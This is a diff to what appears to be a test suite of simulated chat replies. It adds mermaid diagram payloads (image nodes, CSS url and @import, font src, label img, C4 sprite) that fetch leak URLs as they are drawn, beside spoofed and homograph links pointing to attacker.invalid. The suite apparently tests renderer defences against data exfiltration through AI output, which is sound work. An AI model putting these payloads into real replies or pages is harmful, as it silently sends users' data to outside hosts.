@@ -229,6 +229,37 @@ const REPLIES: Payload[] = [
       `<a href="${leak(id)}">good\u200b.example</a> [https://good.example](https://good.example\u200b.attacker.invalid/)`,
   ),
   reply("homograph_link", () => `[раураl.com](https://xn--80aa0cbo65f.invalid/)`),
+  // Diagrams: mermaid draws what they name (an image node, styles), so each would fetch as it is drawn.
+  reply(
+    "mermaid_image_node",
+    (id) => '```mermaid\nflowchart LR\n  A@{ img: "' + leak(id) + '.png", w: 40, h: 40 }\n```',
+  ),
+  reply(
+    "mermaid_css_escapes",
+    (id) => "```mermaid\nstateDiagram-v2\n  classDef k fill:u\\72l(" + leak(id) + ".svg#p)\n  [*] --> S:::k\n```",
+  ),
+  reply(
+    "mermaid_class_style",
+    (id) => "```mermaid\nclassDiagram\n  class A\n  style A fill:url(" + leak(id) + ".svg#p)\n```",
+  ),
+  reply(
+    "mermaid_init_css",
+    (id) =>
+      '```mermaid\n%%{init: {"themeCSS": "@import url(' +
+      leak(id) +
+      '.css);", "fontFamily": "x;src:url(' +
+      leak(id) +
+      '.woff)"}}%%\nflowchart LR\n  A[x]\n```',
+  ),
+  reply(
+    "mermaid_label_img",
+    (id) =>
+      '```mermaid\nflowchart LR\n  A["`<img src=\\"' + leak(id) + '.png\\">`"]\n  click A href "' + leak(id) + '"\n```',
+  ),
+  reply(
+    "mermaid_c4_sprite",
+    (id) => '```mermaid\nC4Context\n  Person(a, "A", "d", $sprite="' + leak(id) + '.png")\n```',
+  ),
   reply(
     "very_long",
     (id) =>
